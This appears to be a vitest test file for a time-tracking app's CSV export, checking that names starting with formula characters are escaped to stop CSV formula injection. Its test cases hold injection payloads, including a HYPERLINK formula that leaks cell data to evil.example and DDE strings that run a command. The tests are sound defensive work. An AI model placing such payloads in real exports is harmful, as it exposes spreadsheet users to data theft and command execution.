/**
 * The time report's CSV (issue 28 "Export CSV"; issue 35 "CSV formula injection", per-entry lines;
 * decisions EX1): every text cell that begins with a formula character (=, +, -, @, tab, CR) is written
 * as text with a leading `'`, in both the totals and the entries table, also when a line break follows the
 * formula; the entries table has one line per time entry with labels and zoned start and end.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { TimeReport } from '../../../../../shared/schemas/reports';
import { CSV_ENTRY_HEADER, CSV_HEADER, timeReportCsv } from './time-csv';

const W = '0190a0a0-0000-7000-8000-000000000001';
const C = '0190a0a0-0000-7000-8000-000000000002';
const U = '0190a0a0-0000-7000-8000-000000000003';
const L = '0190a0a0-0000-7000-8000-000000000004';

/** A report of one 90-minute entry whose every name is `name`. */
function report(name: string): TimeReport {
  return {
    from: '2031-03-01',
    to: '2031-03-31',
    time_zone: 'Europe/Berlin',
    now: '2031-04-01T00:00:00.000Z',
    scope: 'all',
    rows: [
      {
        workspace_id: W,
        workspace_name: name,
        card_id: C,
        card_name: name,
        user_id: U,
        user_name: name,
        seconds: 5400,
        running: false,
      },
    ],
    days: [{ day: '2031-03-02', workspace_id: W, user_id: U, seconds: 5400 }],
    entries: [
      {
        day: '2031-03-02',
        workspace_id: W,
        workspace_name: name,
        card_id: C,
        card_name: name,
        user_id: U,
        user_name: name,
        label_ids: [L],
        started_at: '2031-03-02T09:00:00.000Z',
        ended_at: '2031-03-02T10:30:00.000Z',
        seconds: 5400,
        running: false,
      },
    ],
    total_seconds: 5400,
    filters: {
      workspaces: [{ id: W, name }],
      users: [{ id: U, name }],
      labels: [{ id: L, name, color_hex: 'ff0000', workspace_id: W }],
    },
  };
}

/** The CSV's two tables, parsed. */
async function tables(r: TimeReport): Promise<{ totals: string[][]; entries: string[][] }> {
  const text = await timeReportCsv(r);
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const [totals, entries] = text.slice(1).split('\r\n\r\n');
  return { totals: Papa.parse<string[]>(totals).data, entries: Papa.parse<string[]>(entries).data };
}

describe('timeReportCsv', () => {
  it('writes the totals, then one line per entry with labels and start and end in the report’s zone', async () => {
    const { totals, entries } = await tables(report('Hero banner'));
    expect(totals).toEqual([
      [...CSV_HEADER],
      ['2031-03-01', '2031-03-31', 'Hero banner', 'Hero banner', 'Hero banner', '1:30', '1.50'],
      ['2031-03-01', '2031-03-31', 'Total', '', '', '1:30', '1.50'],
    ]);
    expect(entries).toEqual([
      [...CSV_ENTRY_HEADER],
      [
        '2031-03-02',
        'Hero banner',
        'Hero banner',
        'Hero banner',
        'Hero banner',
        '2031-03-02 10:00',
        '2031-03-02 11:30',
        '1:30',
        '1.50',
      ],
    ]);
  });

  it('leaves the end empty while the timer runs', async () => {
    const running = report('Live');
    const [entry] = running.entries!;
    running.entries = [{ ...entry, ended_at: null, running: true }];
    expect((await tables(running)).entries[1][6]).toBe('');
  });

  it.each([
    ['=', '=HYPERLINK("http://evil.example/?x="&A2,"Open")'],
    ['+', "+cmd|' /C calc'!A0"],
    ['-', "-2+3+cmd|' /C calc'!A0"],
    ['@', '@SUM(1+1)'],
    ['tab', '\t=1+1'],
    ['CR', '\r=1+1'],
    ['= before a line break', '=1+1\nsecond line'],
  ])('writes a cell beginning with %s as text in every column of both tables', async (_name, value) => {
    const { totals, entries } = await tables(report(value));
    // Workspace, card and user of the totals; person, workspace, card and labels of the entries.
    for (const cell of [
      totals[1][2],
      totals[1][3],
      totals[1][4],
      entries[1][1],
      entries[1][2],
      entries[1][3],
      entries[1][4],
    ])
      expect(cell).toBe(`'${value}`);
    // Numbers and dates the product writes are never touched.
    expect(totals[1].slice(5)).toEqual(['1:30', '1.50']);
  });

  it('leaves names that only contain a formula character alone', async () => {
    const { totals } = await tables(report('Q1 = budget - 10%'));
    expect(totals[1][3]).toBe('Q1 = budget - 10%');
  });
});
